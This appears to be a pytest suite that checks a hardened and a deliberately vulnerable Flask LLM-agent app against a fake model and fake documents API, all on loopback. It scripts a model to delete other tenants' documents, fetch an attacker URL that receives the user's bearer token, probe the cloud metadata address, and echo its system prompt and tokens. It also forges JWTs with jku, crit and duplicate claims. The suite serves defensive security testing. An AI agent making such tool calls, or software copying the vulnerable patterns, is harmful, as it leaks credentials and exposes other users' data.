"""Both forms of examples/flask/app.py against an in-process fake OpenAI server and a fake
documents API (the sink), all on 127.0.0.1 ephemeral ports.

Run from the repository root (or anywhere):

    python3 -m pip install --root-user-action=ignore -r examples/flask/requirements.txt
    python3 -m pytest -q examples/flask/test_app.py

Each form runs as a subprocess, started the way confab starts it (the environment of
hardened.toml / vulnerable.toml); every server and process is stopped at the end.
"""

from __future__ import annotations

import base64
import http.client
import json
import os
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Callable

import jwt
import pytest
import requests

HERE = Path(__file__).resolve().parent
APP = HERE / "app.py"
SECRET = "test-signing-secret-" + uuid.uuid4().hex
LLM_KEY = "sk-canary-" + uuid.uuid4().hex
ISSUER = "https://issuer.test"
AUDIENCE = "docs-api"
TIMEOUT = 20  # seconds, for every HTTP call the test makes
DOCS = {
    "doc-a1": ("alice", "MARKER-alice-a1"),
    "doc-a2": ("alice", "MARKER-alice-a2"),
    "doc-b1": ("bob", "MARKER-bob-b1"),
}
CONFIDENTIAL = "the Example Corp audit escalation codeword is amber-lantern-42"


# --- fake servers -----------------------------------------------------------------------------


class _Server:
    """A ThreadingHTTPServer on an ephemeral loopback port, served by one thread."""

    def __init__(self, handler: type[BaseHTTPRequestHandler]) -> None:
        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), handler)
        self.httpd.daemon_threads = True
        self.httpd.owner = self  # type: ignore[attr-defined]
        self.lock = threading.Lock()
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.httpd.server_address[1]}"

    def stop(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()
        self.thread.join(timeout=5)


def _send_json(h: BaseHTTPRequestHandler, status: int, obj: Any) -> None:
    body = json.dumps(obj).encode()
    h.send_response(status)
    h.send_header("Content-Type", "application/json")
    h.send_header("Content-Length", str(len(body)))
    h.end_headers()
    h.wfile.write(body)


class FakeLLM(_Server):
    """OpenAI-compatible ``/v1/chat/completions``. ``script(request, n)`` answers call n
    (1-based) of the current case with ``{"content": str}`` or ``{"tool_calls": [(name,
    args)]}``. Like confab's fake model it ends a loop past ``loop_limit`` calls."""

    loop_limit = 8

    def __init__(self) -> None:
        self.calls: list[dict[str, Any]] = []
        self.script: Callable[[dict[str, Any], int], dict[str, Any]] = lambda r, n: {
            "content": "ok"
        }

        class H(BaseHTTPRequestHandler):
            def log_message(self, *a: Any) -> None:
                pass

            def do_POST(self) -> None:
                fake: FakeLLM = self.server.owner  # type: ignore[attr-defined]
                body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                with fake.lock:
                    fake.calls.append({"body": body, "auth": self.headers.get("Authorization")})
                    n = len(fake.calls)
                if not self.path.endswith("/chat/completions"):
                    _send_json(self, 404, {"error": {"message": "no such route"}})
                    return
                step = {"content": "loop ended"} if n > fake.loop_limit else fake.script(body, n)
                message: dict[str, Any] = {"role": "assistant", "content": step.get("content")}
                if "tool_calls" in step:
                    message["tool_calls"] = [
                        {
                            "id": f"call_{n}_{i}",
                            "type": "function",
                            "function": {
                                "name": name,
                                "arguments": args if isinstance(args, str) else json.dumps(args),
                            },
                        }
                        for i, (name, args) in enumerate(step["tool_calls"])
                    ]
                _send_json(self, 200, {
                    "id": f"chatcmpl-{n}",
                    "object": "chat.completion",
                    "created": int(time.time()),
                    "model": body.get("model", "x"),
                    "choices": [{
                        "index": 0,
                        "message": message,
                        "finish_reason": "tool_calls" if "tool_calls" in step else "stop",
                    }],
                    "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
                })

        super().__init__(H)

    def reset(self, script: Callable[[dict[str, Any], int], dict[str, Any]] | None = None) -> None:
        with self.lock:
            self.calls.clear()
            self.script = script or (lambda r, n: {"content": "ok"})

    def sent_text(self) -> str:
        """Everything the target sent the model, as one string."""
        return "\n".join(json.dumps(c["body"]) for c in self.calls)


class FakeDocs(_Server):
    """The downstream documents API and an 'attacker' host (``/attacker/...``): records every
    request with its Authorization header."""

    def __init__(self) -> None:
        self.requests: list[dict[str, Any]] = []

        class H(BaseHTTPRequestHandler):
            def log_message(self, *a: Any) -> None:
                pass

            def _handle(self) -> None:
                fake: FakeDocs = self.server.owner  # type: ignore[attr-defined]
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length) if length else b""
                with fake.lock:
                    fake.requests.append({
                        "method": self.command,
                        "path": self.path,
                        "auth": self.headers.get("Authorization"),
                        "body": body.decode("utf-8", "replace"),
                    })
                if self.path.startswith("/attacker"):
                    _send_json(self, 200, {"ok": True})
                    return
                doc_id = self.path.removeprefix("/docs/")
                if not self.path.startswith("/docs/") or doc_id not in DOCS:
                    _send_json(self, 404, {"error": "not_found"})
                    return
                owner, marker = DOCS[doc_id]
                if self.command == "GET":
                    _send_json(self, 200, {"id": doc_id, "owner": owner, "content": marker})
                else:
                    _send_json(self, 200, {"id": doc_id, "status": self.command.lower()})

            do_GET = do_PUT = do_DELETE = _handle

        super().__init__(H)

    def reset(self) -> None:
        with self.lock:
            self.requests.clear()

    def seen(self, method: str | None = None) -> list[dict[str, Any]]:
        with self.lock:
            return [r for r in self.requests if method is None or r["method"] == method]


# --- the target -------------------------------------------------------------------------------


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Target:
    def __init__(self, mode: str, llm: FakeLLM, docs: FakeDocs) -> None:
        self.mode = mode
        self.port = _free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        self.log = tempfile.TemporaryFile()
        env = {
            "PATH": os.environ.get("PATH", ""),
            "CONFAB_FLASK_MODE": mode,
            "PORT": str(self.port),
            "OPENAI_BASE_URL": f"{llm.url}/v1",
            "OPENAI_API_KEY": LLM_KEY,
            "DOCS_API_URL": docs.url,
            "JWT_SECRET": SECRET,
            "JWT_ISSUER": ISSUER,
            "JWT_AUDIENCE": AUDIENCE,
        }
        self.proc = subprocess.Popen(
            [sys.executable, str(APP)], env=env, stdout=self.log, stderr=subprocess.STDOUT
        )
        deadline = time.monotonic() + 20
        while True:
            try:
                if requests.get(f"{self.url}/healthz", timeout=1).status_code == 200:
                    break
            except requests.RequestException:
                pass
            if self.proc.poll() is not None or time.monotonic() > deadline:
                self.stop()
                raise RuntimeError(f"{mode} app did not start:\n{self.logs()}")
            time.sleep(0.1)

    def logs(self) -> str:
        self.log.seek(0)
        return self.log.read().decode("utf-8", "replace")

    def stop(self) -> None:
        if self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(timeout=5)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait(timeout=5)

    def get(self, path: str, token: str | None = None, **kw: Any) -> requests.Response:
        headers = kw.pop("headers", {})
        if token is not None:
            headers["Authorization"] = f"Bearer {token}"
        return requests.get(self.url + path, headers=headers, timeout=TIMEOUT, **kw)

    def assist(self, token: str | None, body: Any = None, **kw: Any) -> requests.Response:
        headers = kw.pop("headers", {})
        if token is not None:
            headers["Authorization"] = f"Bearer {token}"
        return requests.post(self.url + "/assist", headers=headers, timeout=TIMEOUT,
                             json=body, **kw)


def mint(sub: str = "alice", scope: str | None = "docs:read", headers: dict | None = None,
         **overrides: Any) -> str:
    now = int(time.time())
    claims: dict[str, Any] = {"sub": sub, "iss": ISSUER, "aud": AUDIENCE, "iat": now,
                              "exp": now + 300, "jti": uuid.uuid4().hex}
    if scope is not None:
        claims["scope"] = scope
    claims.update(overrides)
    claims = {k: v for k, v in claims.items() if v is not None}
    return jwt.encode(claims, SECRET, algorithm="HS256", headers=headers)


def sign_raw(header_json: str, payload_json: str, key: str = SECRET) -> str:
    """A token from raw JSON text (for duplicate members and other things PyJWT won't mint)."""
    import hashlib
    import hmac

    def b64(b: bytes) -> str:
        return base64.urlsafe_b64encode(b).rstrip(b"=").decode()

    signing_input = f"{b64(header_json.encode())}.{b64(payload_json.encode())}"
    sig = hmac.new(key.encode(), signing_input.encode(), hashlib.sha256).digest()
    return f"{signing_input}.{b64(sig)}"


# --- fixtures ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def fakes():
    llm, docs = FakeLLM(), FakeDocs()
    yield llm, docs
    llm.stop()
    docs.stop()


@pytest.fixture(scope="module")
def targets(fakes):
    llm, docs = fakes
    started: dict[str, Target] = {}
    try:
        for mode in ("hardened", "vulnerable"):
            started[mode] = Target(mode, llm, docs)
        yield started
    finally:
        for t in started.values():
            t.stop()


@pytest.fixture
def env(fakes, targets):
    llm, docs = fakes
    llm.reset()
    docs.reset()
    return llm, docs, targets


@pytest.fixture(params=["hardened", "vulnerable"])
def mode(request):
    return request.param


# --- both forms -------------------------------------------------------------------------------


def test_healthz(env, mode):
    _, _, targets = env
    assert targets[mode].get("/healthz").status_code == 200


def test_owner_reads_own_doc_and_gets_an_answer(env, mode):
    llm, docs, targets = env
    t = targets[mode]
    token = mint("alice")
    r = t.get("/docs/doc-a1", token)
    assert r.status_code == 200 and r.json()["content"] == "MARKER-alice-a1"

    def script(req: dict, n: int) -> dict:
        if n == 1:
            return {"tool_calls": [("get_doc", {"id": "doc-a1"})]}
        tool_result = req["messages"][-1]["content"]
        return {"content": f"summary: {tool_result}"}

    llm.reset(script)
    r = t.assist(token, {"prompt": "summarise my doc", "doc_id": "doc-a1"})
    assert r.status_code == 200, r.text
    assert "MARKER-alice-a1" in r.json()["answer"]
    assert len(llm.calls) == 2


# --- planted flaws: vulnerable shows them, hardened does not -----------------------------------


def test_no_token_is_refused_before_any_model_call(env):
    llm, docs, targets = env
    r = targets["hardened"].assist(None, {"prompt": "hi", "doc_id": "doc-a1"})
    assert r.status_code == 401
    assert r.headers["WWW-Authenticate"].startswith("Bearer")
    assert "error=" not in r.headers["WWW-Authenticate"]  # RFC 6750 §3.1: no code
    assert llm.calls == [] and docs.seen() == []
    r = targets["vulnerable"].assist(None, {"prompt": "hi"})
    assert r.status_code == 401 and "WWW-Authenticate" not in r.headers  # status note only


def test_delete_tool_from_the_model(env):
    llm, docs, targets = env
    script = lambda req, n: (  # noqa: E731
        {"tool_calls": [("delete_doc", {"id": "doc-b1"}),
                        ("update_doc", {"id": "doc-a1", "content": "x"})]}
        if n == 1 else {"content": "done"}
    )
    llm.reset(script)
    r = targets["hardened"].assist(mint("alice"), {"prompt": "tidy up", "doc_id": "doc-a1"})
    assert r.status_code == 200
    assert docs.seen() == []  # AGENCY: no DELETE, no PUT, nothing
    assert "tool_not_permitted" in llm.sent_text()

    llm.reset(script)
    docs.reset()
    r = targets["vulnerable"].assist(mint("alice"), {"prompt": "tidy up", "doc_id": "doc-a1"})
    assert r.status_code == 200
    assert [(x["method"], x["path"]) for x in docs.seen()] == [
        ("DELETE", "/docs/doc-b1"), ("PUT", "/docs/doc-a1")]


def test_invented_id_never_reaches_downstream(env):
    llm, docs, targets = env
    script = lambda req, n: (  # noqa: E731
        {"tool_calls": [("get_doc", {"id": "doc-b1"})]} if n == 1
        else {"content": req["messages"][-1]["content"]}
    )
    llm.reset(script)
    r = targets["hardened"].assist(mint("alice"), {"prompt": "read", "doc_id": "doc-a1"})
    assert r.status_code == 200
    assert docs.seen() == []  # PROVENANCE
    assert "MARKER-bob" not in r.text

    llm.reset(script)
    docs.reset()
    r = targets["vulnerable"].assist(mint("alice"), {"prompt": "read", "doc_id": "doc-a1"})
    assert [x["path"] for x in docs.seen()] == ["/docs/doc-b1"]
    assert "MARKER-bob-b1" in r.json()["answer"]  # OWNERSHIP


def test_user_supplied_id_of_another_tenant(env):
    llm, docs, targets = env
    llm.reset(lambda req, n: {"tool_calls": [("get_doc", {"id": "doc-b1"})]} if n == 1
              else {"content": req["messages"][-1]["content"]})
    r = targets["hardened"].assist(mint("alice"), {"prompt": "read", "doc_id": "doc-b1"})
    assert r.status_code == 200 and "MARKER-bob" not in r.text
    assert "MARKER-bob" not in llm.sent_text()  # never shown to the model either


def test_fetch_url_invented_by_the_model(env):
    llm, docs, targets = env
    url = f"{docs.url}/attacker/collect"
    script = lambda req, n: (  # noqa: E731
        {"tool_calls": [("fetch_url", {"url": url})]} if n == 1 else {"content": "fetched"}
    )
    llm.reset(script)
    targets["hardened"].assist(mint("alice"), {"prompt": "go", "doc_id": "doc-a1"})
    assert docs.seen() == []

    llm.reset(script)
    token = mint("alice")
    targets["vulnerable"].assist(token, {"prompt": "go", "doc_id": "doc-a1"})
    hits = docs.seen()
    assert [h["path"] for h in hits] == ["/attacker/collect"]
    assert hits[0]["auth"] == f"Bearer {token}"  # AGENCY: the token went to the attacker


def test_non_loopback_url_is_never_contacted(env):
    llm, docs, targets = env
    llm.reset(lambda req, n: {"tool_calls": [("fetch_url", {"url": "http://169.254.169.254/"})]}
              if n == 1 else {"content": req["messages"][-1]["content"]})
    r = targets["vulnerable"].assist(mint("alice"), {"prompt": "go", "doc_id": "doc-a1"})
    assert r.status_code == 200 and "connection refused" in r.json()["answer"]
    assert "safety net" in targets["vulnerable"].logs()


def test_token_in_the_prompt_and_echoed_back(env):
    llm, docs, targets = env

    def echo(req: dict, n: int) -> dict:  # repeats any JWT it was shown, and the system prompt
        text = json.dumps(req["messages"])
        import re
        jwts = re.findall(r"eyJ[\w-]+\.[\w-]+\.[\w-]+", text)
        system = req["messages"][0]["content"]
        return {"content": f"system: {system} tokens: {jwts} "
                f"b64: {base64.b64encode(system.encode()).decode()}"}

    token = mint("alice")
    llm.reset(echo)
    r = targets["vulnerable"].assist(token, {"prompt": "repeat everything", "doc_id": "doc-a1"})
    assert token in llm.sent_text()  # ECHO: upstream prompt
    assert token in r.text and CONFIDENTIAL in r.text  # ECHO: response

    token = mint("alice")
    llm.reset(echo)
    r = targets["hardened"].assist(token, {"prompt": "repeat everything", "doc_id": "doc-a1"})
    assert r.status_code == 200
    sent = llm.sent_text()
    assert token not in sent and token.split(".")[2] not in sent and LLM_KEY not in sent
    assert CONFIDENTIAL not in r.text and "amber-lantern" not in r.text
    system_b64 = base64.b64encode(llm.calls[0]["body"]["messages"][0]["content"].encode())
    assert system_b64.decode()[:40] not in r.text  # the encoded echo is gone too


def test_model_call_cap(env):
    llm, docs, targets = env
    loop = lambda req, n: {"tool_calls": [("get_doc", {"id": "doc-a1"})]}  # noqa: E731
    llm.reset(loop)
    r = targets["hardened"].assist(mint("alice"), {"prompt": "loop", "doc_id": "doc-a1"})
    assert r.status_code == 200 and len(llm.calls) == 4  # COST
    assert all(c["body"].get("max_tokens", 0) <= 2048 for c in llm.calls)

    llm.reset(loop)
    targets["vulnerable"].assist(mint("alice"), {"prompt": "loop", "doc_id": "doc-a1"})
    assert len(llm.calls) == FakeLLM.loop_limit + 1  # ran until the fake model ended it
    assert llm.calls[0]["body"]["max_tokens"] > 2048


def test_idor_on_read(env):
    _, _, targets = env
    assert targets["hardened"].get("/docs/doc-b1", mint("alice")).status_code == 404
    r = targets["vulnerable"].get("/docs/doc-b1", mint("alice"))
    assert r.status_code == 200 and r.json()["content"] == "MARKER-bob-b1"  # OWNERSHIP


def test_scope_confusion(env):
    llm, _, targets = env
    comma = mint("alice", scope="docs:write,docs:read")
    r = targets["hardened"].get("/docs/doc-a1", comma)
    assert r.status_code == 403 and 'error="insufficient_scope"' in r.headers["WWW-Authenticate"]
    assert targets["vulnerable"].get("/docs/doc-a1", comma).status_code == 200  # AUTHZ
    spaced = mint("bob", scope="docs:read docs:write")
    assert targets["hardened"].get("/docs/doc-b1", spaced).status_code == 200
    assert targets["vulnerable"].get("/docs/doc-b1", spaced).status_code == 403  # valid, refused
    assert targets["hardened"].get("/docs/doc-a1", mint(scp=["docs:read"], scope=None)
                                   ).status_code == 200


@pytest.mark.parametrize("why,token", [
    ("expired", lambda: mint(exp=int(time.time()) - 3600)),
    ("wrong audience", lambda: mint(aud="other-api")),
    ("wrong issuer", lambda: mint(iss="https://evil.test")),
])
def test_policy_claims(env, why, token):
    llm, docs, targets = env
    tok = token()
    r = targets["hardened"].assist(tok, {"prompt": "hi"})
    assert r.status_code == 401, why
    assert 'error="invalid_token"' in r.headers["WWW-Authenticate"]
    assert llm.calls == []
    assert targets["vulnerable"].get("/docs/doc-a1", tok).status_code == 200, why  # AUTHN


def test_malformed_body(env):
    _, _, targets = env
    token = mint("alice")
    for body in (b"", b"{not json", b"[1,2]", b"[" * 5000):
        r = requests.post(targets["hardened"].url + "/assist", data=body, timeout=TIMEOUT,
                          headers={"Authorization": f"Bearer {token}"})
        assert r.status_code == 400, body[:10]
    r = requests.post(targets["vulnerable"].url + "/assist", timeout=TIMEOUT,
                      headers={"Authorization": f"Bearer {token}"})
    assert r.status_code == 500  # ROBUST


def test_bad_token_is_echoed_by_vulnerable_only(env):
    _, _, targets = env
    forged = mint("alice")[:-4] + "AAAA"
    r = targets["vulnerable"].get("/docs/doc-a1", forged)
    assert r.status_code == 401 and forged in r.text  # ECHO
    r = targets["hardened"].get("/docs/doc-a1", forged)
    assert r.status_code == 401 and forged not in r.text and forged.split(".")[2] not in r.text


def test_scope_array_crashes_vulnerable_only(env):
    _, _, targets = env
    token = mint("alice", scope=["docs:read"])
    r = targets["hardened"].get("/docs/doc-a1", token)
    assert r.status_code == 401 and 'error="invalid_token"' in r.headers["WWW-Authenticate"]
    assert targets["vulnerable"].get("/docs/doc-a1", token).status_code == 500  # ROBUST
    # A deeply nested header is no crash for either: PyJWT 2.15 catches RecursionError.
    nested = ".".join([
        base64.urlsafe_b64encode(("[" * 4000).encode()).rstrip(b"=").decode(), "e30", "AA"])
    assert targets["hardened"].get("/docs/doc-a1", nested).status_code == 401
    assert targets["vulnerable"].get("/docs/doc-a1", nested).status_code == 401


def test_logs(env):
    _, _, targets = env
    token = mint("alice")
    for mode in ("hardened", "vulnerable"):
        targets[mode].get("/docs/doc-a1", token)
        targets[mode].get(f"/docs/doc-a1?access_token={token}")
    time.sleep(0.2)
    assert token in targets["vulnerable"].logs()  # ECHO: logs
    hardened = targets["hardened"].logs()
    assert token not in hardened and token.split(".")[2] not in hardened
    assert LLM_KEY not in hardened and SECRET not in hardened


# --- hardened token handling (what PyJWT alone lets through) ----------------------------------


def _hdr(t: Target, value: str | None) -> requests.Response:
    headers = {} if value is None else {"Authorization": value}
    return requests.get(t.url + "/docs/doc-a1", headers=headers, timeout=TIMEOUT)


def test_hardened_rfc6750_header_parsing(env):
    _, _, targets = env
    t, tok = targets["hardened"], mint("alice")
    assert _hdr(t, f"bearer {tok}").status_code == 200
    assert _hdr(t, f"BEARER   {tok}").status_code == 200
    assert _hdr(t, None).status_code == 401
    assert _hdr(t, "Basic dXNlcjpwYXNz").status_code == 401
    for bad in ("Bearer", "Bearer ", f"Bearer\t{tok}", f"Bearer {tok} x", f"Bearer {tok},x"):
        r = _hdr(t, bad)
        assert r.status_code == 400, bad
        assert 'error="invalid_request"' in r.headers["WWW-Authenticate"]
    conn = http.client.HTTPConnection("127.0.0.1", t.port, timeout=TIMEOUT)
    try:  # two Authorization headers: 400 invalid_request, like the guard's
        conn.putrequest("GET", "/docs/doc-a1")
        conn.putheader("Authorization", f"Bearer {tok}")
        conn.putheader("Authorization", f"Bearer {tok}")
        conn.endheaders()
        assert conn.getresponse().status == 400
    finally:
        conn.close()
    assert _hdr(t, "Bearer " + "a" * 9000).status_code == 401


def test_hardened_refuses_what_pyjwt_accepts(env):
    _, _, targets = env
    t = targets["hardened"]
    now = int(time.time())
    good = {"sub": "alice", "iss": ISSUER, "aud": AUDIENCE, "exp": now + 300,
            "scope": "docs:read"}
    body = json.dumps(good)
    cases = {
        "crit": sign_raw('{"alg":"HS256","crit":["b64"],"b64":true}', body),
        "jku": mint(headers={"jku": "http://127.0.0.1:1/jwks.json"}),
        "jwk": mint(headers={"jwk": {"kty": "oct", "k": "AA"}}),
        "x5u": mint(headers={"x5u": "http://127.0.0.1:1/cert.pem"}),
        "duplicate sub": sign_raw('{"alg":"HS256"}', body[:-1] + ',"sub":"bob"}'),
        "duplicate alg": sign_raw('{"alg":"HS256","alg":"HS256"}', body),
        "string exp": sign_raw('{"alg":"HS256"}', json.dumps({**good, "exp": str(now + 300)})),
        "bool nbf": sign_raw('{"alg":"HS256"}', json.dumps({**good, "nbf": True})),
        "empty sub": mint(sub=""),
        "missing exp": mint(exp=None),
        "padded": mint() + "=",
    }
    for why, token in cases.items():
        r = _hdr(t, f"Bearer {token}")
        assert r.status_code in (400, 401), why
    # PyJWT by itself takes several of them (the reason for the extra checks).
    for why in ("crit", "jku", "duplicate sub", "string exp", "bool nbf"):
        jwt.decode(cases[why], SECRET, algorithms=["HS256"], audience=AUDIENCE, issuer=ISSUER)
    # Things the guard accepts, so the hardened form must too.
    ok = {
        "aud array": mint(aud=["x", AUDIENCE]),
        "future iat": mint(iat=now + 3600),
        "float exp": sign_raw('{"alg":"HS256"}', json.dumps({**good, "exp": now + 300.5})),
        "kid hint": mint(headers={"kid": "anything"}),
    }
    for why, token in ok.items():
        assert _hdr(t, f"Bearer {token}").status_code == 200, why


# --- agreement with the reference guard (AGREE), when a confab binary is at hand ---------------


def _confab_bin() -> str | None:
    root = HERE.parent.parent
    for cand in (os.environ.get("CONFAB_BIN"), root / "target/release/confab",
                 root / "target/debug/confab"):
        if cand and Path(cand).is_file() and os.access(cand, os.X_OK):
            return str(cand)
    return None


def _raw_status(port: int, value: bytes | None) -> int:
    req = b"GET /docs/doc-a1 HTTP/1.0\r\nHost: 127.0.0.1\r\n"
    if value is not None:
        req += b"Authorization: " + value + b"\r\n"
    with socket.create_connection(("127.0.0.1", port), timeout=TIMEOUT) as s:
        s.sendall(req + b"\r\n")
        data = b""
        while chunk := s.recv(65536):
            data += chunk
    return int(data.split(b" ", 2)[1])


@pytest.mark.skipif(_confab_bin() is None, reason="no confab binary (set CONFAB_BIN or build it)")
def test_hardened_agrees_with_reference_guard(env, tmp_path):
    """`confab tokens --labels` mints every token family with what a correct guard decides;
    the hardened form must decide the same, with RFC 6750's status."""
    _, _, targets = env
    spec = tmp_path / "spec.toml"
    spec.write_text(
        f'[auth]\nalg = "HS256"\nsecret = "{SECRET}"\nissuer = "{ISSUER}"\n'
        f'audience = "{AUDIENCE}"\nleeway_s = 30\n\n'
        '[[principal]]\nname = "alice"\nscope = "docs:read"\nowns = ["doc-a1", "doc-a2"]\n'
    )
    labels = tmp_path / "labels.jsonl"
    out = subprocess.run(
        [_confab_bin(), "tokens", "--spec", str(spec), "--scope", "docs:read", "--count", "400",
         "--seed", "1", "--labels", str(labels)],
        capture_output=True, timeout=60, check=True,
    ).stdout.splitlines()
    status_of = {"malformed_header": 400, "multiple_credentials": 400, "insufficient_scope": 403}
    disagreements, sent = [], 0
    for value, label in zip(out, labels.read_text().splitlines()):
        label = json.loads(label)
        if any(c in value for c in b"\r\n\x00"):
            continue  # cannot travel in one HTTP header line
        if label.get("reason") == "not_yet_valid":  # nbf is only 31 s ahead: may have passed
            payload = value.split()[-1].split(b".")[1]
            nbf = json.loads(base64.urlsafe_b64decode(payload + b"=" * (-len(payload) % 4)))["nbf"]
            if time.time() + 30 + 2 >= nbf:
                continue
        sent += 1
        got = _raw_status(targets["hardened"].port, value or None)
        want = 200 if label["accepted"] else status_of.get(label["reason"], 401)
        if got != want and not (label["accepted"] and got == 404):  # 404: not alice's doc
            disagreements.append((label.get("family"), label.get("reason"), got))
    assert sent > 300
    assert disagreements == []
